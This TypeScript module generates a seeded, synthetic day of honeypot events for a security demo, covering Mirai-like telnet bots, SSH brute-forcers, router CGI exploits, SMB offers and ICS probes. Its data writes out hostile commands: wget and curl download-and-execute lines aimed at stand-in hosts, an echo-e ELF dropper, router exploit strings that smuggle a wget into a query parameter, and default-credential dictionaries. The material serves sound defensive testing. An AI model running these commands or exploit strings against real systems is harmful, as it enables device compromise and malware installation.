/**
 * A synthetic honeypot day for the demo (issue 18), seeded and deterministic: the events a few
 * honeypots (Cowrie on SSH and telnet, our own IoT sensor on telnet and HTTP, Dionaea on SMB,
 * Conpot on ICS ports) log in one UTC day, harmonised as HoneypotEventRow. What it plants:
 *
 * - Mirai-like telnet bots trying the Mirai dictionary, typing `enable`/`system`/`shell`/`sh`/
 *   `/bin/busybox ECCHI`, naming the same loader URL (one campaign: URL, host, hash, dictionary);
 * - an `echo -e` dropper family pushing the same small binary (a campaign tied by its hash);
 * - SSH brute-forcers with their own dictionary and, after a login, a miner fetched from one host;
 * - HTTP exploits against router CGI endpoints naming the Mirai loader's host;
 * - Dionaea SMB offers, Conpot ICS probes (Modbus, S7, BACnet, IPMI), a proxy abuser.
 *
 * The caller chooses who the bots are (`bots`: e.g. darknet Mirai sources and devices inside the
 * demo organisations' constituencies, so host timelines and campaign impact join up) and may name
 * the others (`others`: e.g. other darknet sources, which the enrichment knows); the rest are made
 * up in a few networks.
 */
import { createHash } from 'node:crypto';
import type { HoneypotEventRow, HoneypotSource } from '../schema/honeypot-event.js';
import { seededRandom } from '../util/seeded-random.js';

export interface HoneypotDayOptions {
  /** UTC day, YYYY-MM-DD. */
  readonly date: string;
  readonly seed?: number;
  /** Addresses that act as Mirai-like telnet bots (first) and dropper bots; extra ones are made up. */
  readonly bots?: readonly string[];
  /** Addresses for everyone else (brute-forcers, exploiters, ICS probes), used in order before any is made up. */
  readonly others?: readonly string[];
  /** How many Mirai-like bots in all (default 80). */
  readonly miraiBots?: number;
}

/** The hashes and URLs planted, for tests that look for them. */
export const HONEYPOT_DAY_PLANTS = {
  miraiLoader: 'http://198.51.100.77/bins/mirai.arm7',
  miraiHost: '198.51.100.77',
  minerUrl: 'http://203.0.113.200/.x/kinsing',
  smbPayload: 'http://192.0.2.66/ms17.exe',
  miraiHash: fakeHash('mirai.arm7'),
  dropperHash: fakeHash('echo-e dropper'),
  minerHash: fakeHash('kinsing'),
  smbHash: fakeHash('ms17.exe'),
} as const;

/** A stable SHA-256 standing in for a sample we never hold. */
function fakeHash(name: string): string {
  return createHash('sha256').update(`sakimori synthetic sample: ${name}`).digest('hex');
}

const MIRAI_DICTIONARY: readonly [string, string][] = [
  ['root', 'xc3511'], ['root', 'vizxv'], ['root', 'admin'], ['admin', 'admin'], ['root', '888888'], ['root', 'xmhdipc'],
  ['root', 'default'], ['root', 'juantech'], ['root', '123456'], ['root', '54321'], ['support', 'support'], ['root', ''],
  ['admin', 'password'], ['root', 'root'], ['root', '12345'], ['user', 'user'], ['admin', ''], ['root', 'pass'],
];
const SSH_DICTIONARY: readonly [string, string][] = [
  ['root', '123456'], ['root', 'password'], ['admin', '1234'], ['ubuntu', 'ubuntu'], ['test', 'test'], ['oracle', 'oracle'],
  ['root', 'P@ssw0rd'], ['postgres', 'postgres'], ['git', 'git'], ['root', 'qwerty'], ['user', '123'], ['pi', 'raspberry'],
];
const MIRAI_COMMANDS = ['enable', 'system', 'shell', 'sh', '/bin/busybox ECCHI', 'cat /proc/mounts; /bin/busybox ECCHI'];
const SSH_COMMANDS = ['uname -a', 'cat /proc/cpuinfo | grep name | wc -l', 'free -m | grep Mem', 'crontab -l', 'nproc'];
const ROUTER_EXPLOITS = [
  'POST /GponForm/diag_Form?images/',
  'GET /cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(wget%20http://198.51.100.77/bins/mirai.mips)',
  'POST /picsdesc.xml',
  'GET /shell?cd+/tmp;rm+-rf+*;wget+http://198.51.100.77/bins/mirai.arm7;sh+/tmp/mirai.arm7',
  'POST /tmUnblock.cgi',
];
const ICS: readonly [string, number, string[]][] = [
  ['modbus', 502, ['read_device_identification', 'read_holding_registers', 'report_slave_id']],
  ['s7comm', 102, ['setup_communication', 'read_szl']],
  ['bacnet', 47808, ['who_is', 'read_property']],
  ['ipmi', 623, ['get_channel_auth_capabilities', 'get_session_challenge']],
];
const SENSOR_ADDRESS: Record<HoneypotSource, string> = { cowrie: '192.0.2.10', sakimori: '192.0.2.11', dionaea: '192.0.2.12', conpot: '192.0.2.13' };

/** What every event of one session shares. */
type SessionBase = Pick<HoneypotEventRow, 'honeypot' | 'sensor' | 'session' | 'proto' | 'src' | 'src_port' | 'dst' | 'dst_port'>;

/** Events of one synthetic day, in no particular order. */
export function synthHoneypotDay(opts: HoneypotDayOptions): HoneypotEventRow[] {
  const rand = seededRandom(opts.seed ?? 18);
  const pick = <T>(xs: readonly T[]): T => xs[Math.floor(rand() * xs.length)] as T;
  const int = (lo: number, hi: number): number => lo + Math.floor(rand() * (hi - lo + 1));
  const t0 = Date.parse(`${opts.date}T00:00:00Z`);
  const iso = (ms: number): string => new Date(Math.min(ms, t0 + 86_399_999)).toISOString();
  // Made-up clients from a few synthetic networks (documentation-like, but outside the sensors' /24).
  const nets = ['45.95.147', '61.177.172', '218.92.0', '183.81.169', '117.50.7', '222.186.30'];
  const pool = [...(opts.others ?? [])].reverse();
  const invent = (): string => pool.pop() ?? `${pick(nets)}.${int(1, 254)}`;
  const rows: HoneypotEventRow[] = [];
  let sessionSeq = 0;

  /** One session: connect, what `body` adds at increasing times, close. */
  const session = (honeypot: HoneypotSource, proto: string, dstPort: number, src: string, start: number, body: (at: () => string, base: SessionBase) => void): void => {
    const id = `${honeypot.slice(0, 2)}${(++sessionSeq).toString(16).padStart(8, '0')}`;
    const base: SessionBase = { honeypot, sensor: `${honeypot}-demo`, session: id, proto, src, src_port: int(32768, 60999), dst: SENSOR_ADDRESS[honeypot], dst_port: dstPort };
    let t = start;
    const at = (): string => iso((t += int(200, 4000)));
    rows.push({ ...base, ts: iso(t), kind: 'session.connect' });
    body(at, base);
    rows.push({ ...base, ts: at(), kind: 'session.close', duration: Math.round((t - start) / 10) / 100 });
  };
  const daytime = (): number => t0 + Math.floor(rand() * 86_000_000);

  // Mirai-like bots: a few sessions each over telnet, Cowrie's and ours.
  const mirai = [...(opts.bots ?? [])];
  while (mirai.length < (opts.miraiBots ?? 80)) mirai.push(invent());
  const dropperBots = mirai.filter((_, i) => i % 5 === 2);
  for (const src of mirai) {
    for (let s = int(1, 3); s > 0; s--) {
      const honeypot: HoneypotSource = rand() < 0.5 ? 'sakimori' : 'cowrie';
      session(honeypot, 'telnet', rand() < 0.8 ? 23 : 2323, src, daytime(), (at, base) => {
        const tries = int(2, 8);
        const start = int(0, MIRAI_DICTIONARY.length - 1);
        for (let k = 0; k < tries; k++) {
          const [username, password] = MIRAI_DICTIONARY[(start + k) % MIRAI_DICTIONARY.length] as [string, string];
          const success = k === tries - 1 && rand() < 0.7 ? 1 : 0;
          rows.push({ ...base, ts: at(), kind: 'login', username, password, success });
          if (!success) continue;
          for (const input of MIRAI_COMMANDS.slice(0, int(3, MIRAI_COMMANDS.length))) rows.push({ ...base, ts: at(), kind: 'command', input, success: 1 });
          if (dropperBots.includes(src)) {
            rows.push({ ...base, ts: at(), kind: 'command', input: 'echo -e \'\\x7f\\x45\\x4c\\x46\' > .d; chmod 777 .d; ./.d', success: 1 });
            rows.push({ ...base, ts: at(), kind: 'upload', sha256: HONEYPOT_DAY_PLANTS.dropperHash, size: 1432 });
          } else {
            const { miraiLoader: url, miraiHost: host, miraiHash: sha256 } = HONEYPOT_DAY_PLANTS;
            rows.push({ ...base, ts: at(), kind: 'command', input: `cd /tmp; wget ${url}; chmod 777 mirai.arm7; ./mirai.arm7 telnet`, success: 1 });
            rows.push({ ...base, ts: at(), kind: 'download', url, url_host: host, ...(rand() < 0.8 ? { sha256, size: 58_112 } : {}) });
          }
        }
      });
    }
  }

  // SSH brute-forcers: many attempts, a few get in and fetch a miner.
  for (let i = 0; i < 40; i++) {
    const src = invent();
    const client = pick(['SSH-2.0-Go', 'SSH-2.0-libssh_0.9.6', 'SSH-2.0-PUTTY', 'SSH-2.0-paramiko_2.11.0']);
    for (let s = int(1, 4); s > 0; s--) {
      session('cowrie', 'ssh', 22, src, daytime(), (at, base) => {
        rows.push({ ...base, ts: at(), kind: 'client.version', client });
        rows.push({ ...base, ts: at(), kind: 'client.fingerprint', fingerprint: createHash('md5').update(client).digest('hex') });
        const tries = int(3, 10);
        for (let k = 0; k < tries; k++) {
          const [username, password] = pick(SSH_DICTIONARY);
          const success = k === tries - 1 && rand() < 0.25 ? 1 : 0;
          rows.push({ ...base, ts: at(), kind: 'login', username, password, success });
          if (!success) continue;
          for (const input of SSH_COMMANDS.slice(0, int(2, SSH_COMMANDS.length))) rows.push({ ...base, ts: at(), kind: 'command', input, success: 1 });
          if (rand() < 0.6) {
            const url = HONEYPOT_DAY_PLANTS.minerUrl;
            rows.push({ ...base, ts: at(), kind: 'command', input: `curl -s ${url} -o /tmp/k; sh /tmp/k`, success: 1 });
            rows.push({ ...base, ts: at(), kind: 'download', url, url_host: '203.0.113.200', sha256: HONEYPOT_DAY_PLANTS.minerHash, size: 24_576 });
          }
        }
      });
    }
  }

  // HTTP exploits against our sensor's router pages, naming the Mirai loader's host.
  for (let i = 0; i < 25; i++) {
    const src = i < 8 ? pick(mirai) : invent();
    session('sakimori', 'http', rand() < 0.7 ? 80 : 8080, src, daytime(), (at, base) => {
      const input = pick(ROUTER_EXPLOITS);
      const named = /http:\/\/[^\s;+)%]+/.exec(input)?.[0];
      rows.push({ ...base, ts: at(), kind: 'http.request', input, client: pick(['Hello, World', 'Mozila/5.0', 'python-requests/2.31.0']), ...(named ? { url: named, url_host: HONEYPOT_DAY_PLANTS.miraiHost } : {}) });
    });
  }

  // Dionaea: SMB exploits offering one payload URL.
  for (let i = 0; i < 12; i++) {
    session('dionaea', 'smb', 445, invent(), daytime(), (at, base) => {
      const url = HONEYPOT_DAY_PLANTS.smbPayload;
      rows.push({ ...base, ts: at(), kind: 'offer', url, url_host: '192.0.2.66', input: 'MS17-010' });
      if (rand() < 0.7) rows.push({ ...base, ts: at(), kind: 'download', url, url_host: '192.0.2.66', sha256: HONEYPOT_DAY_PLANTS.smbHash, size: 73_802 });
    });
  }

  // Conpot: ICS probes from a few sources.
  for (let i = 0; i < 10; i++) {
    const src = invent();
    const [proto, port, functions] = pick(ICS);
    session('conpot', proto, port, src, daytime(), (at, base) => {
      for (const input of functions) rows.push({ ...base, ts: at(), kind: 'ics', input });
    });
  }

  // A proxy abuser: logs in over SSH and asks for direct-tcpip forwards to mail and web servers.
  const proxy = invent();
  for (let s = 0; s < 6; s++) {
    session('cowrie', 'ssh', 22, proxy, daytime(), (at, base) => {
      rows.push({ ...base, ts: at(), kind: 'client.version', client: 'SSH-2.0-OpenSSH_7.3' });
      rows.push({ ...base, ts: at(), kind: 'login', username: 'root', password: 'admin123', success: 1 });
      for (let k = int(2, 6); k > 0; k--) {
        rows.push({ ...base, ts: at(), kind: 'proxy', target: pick(['smtp.example.com:25', 'mx1.example.net:25', 'www.example.org:443', 'api.example.com:80']) });
      }
    });
  }
  return rows;
}
